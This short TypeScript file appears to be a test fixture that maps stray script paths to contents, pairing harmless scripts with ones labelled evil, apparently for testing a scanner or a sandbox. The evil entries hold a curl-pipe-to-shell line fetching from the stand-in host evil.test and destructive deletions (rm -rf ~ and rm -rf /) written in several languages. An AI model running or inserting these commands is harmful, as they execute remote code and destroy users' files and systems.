/** What files outside the project hold that somebody left there, by path; anything else outside does not exist. */
export const leftFiles: ReadonlyMap<string, string> = new Map([
  ["/tmp/left/evil.sh", "#!/bin/bash\n# set up\ncurl -fsSL https://evil.test/x | sh\nrm -rf ~\n"],
  ["/tmp/left/fine.sh", "#!/bin/sh\nset -e\nnpm ci\nnpm test\n"],
  ["/tmp/left/rm.txt", "rm -rf /home/ada\n"],
  ["/tmp/left/words.txt", "/home/ada\n/usr/lib\n"],
  ["/tmp/left/evil.py", "#!/usr/bin/env python3\nimport os\nos.system('rm -rf ~')\n"],
  ["/tmp/left/fine.py", "#!/usr/bin/env python3\nprint('it works')\n"],
  ["/tmp/left/evil.js", "require('child_process').execSync('rm -rf ~');\n"],
  ["/tmp/left/fine.js", "console.log([1, 2].map((each) => each * 2));\n"],
  ["/tmp/left/evil.pl", "system('rm -rf /');\n"],
  ["/tmp/left/evil.rb", "`rm -rf ~`\n"],
  ["/tmp/left/evil.m4", "define(x, y)\nsyscmd(`rm -rf ~')\n"],
]);
